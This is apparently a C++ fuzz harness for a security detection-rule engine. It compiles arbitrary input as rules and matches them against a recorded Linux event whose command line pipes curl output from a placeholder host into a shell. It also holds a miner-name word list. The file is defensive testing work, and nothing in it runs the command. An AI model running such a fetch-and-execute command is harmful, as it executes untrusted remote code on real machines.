// Any bytes are a rule file: they compile or are refused with a reason, and what compiled can match.
#include <cstdint>
#include <string>

#include "base/assert.hpp"
#include "detect/rules/recorded.hpp"
#include "detect/rules/rule_set.hpp"

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
    using namespace fieldwatch::detect;
    if (size > 16'384) return 0;  // compiling expressions dominates: more text finds nothing more
    const SourceFile file{"fuzz.yml", std::string(reinterpret_cast<const char*>(data), size)};
    const SourceFile words{"words/miners.txt", "xmrig\ncpuminer\n"};
    const auto compiled = RuleSet::compile({&file, 1}, {&words, 1});
    FIELDWATCH_ASSERT(compiled.rules != nullptr);
    for (const auto& error : compiled.errors)
        FIELDWATCH_ASSERT(!error.why.empty());
    static const auto event =
        RecordedEvent::make("linux", "process_creation", "",
                            {{"Image", "/bin/sh"}, {"CommandLine", "sh -c 'curl http://a.b/c | sh'"}});
    Matcher matcher(compiled.rules);
    std::vector<RuleHit> hits;
    matcher.match(event.event(), event.item(), hits);
    return 0;
}
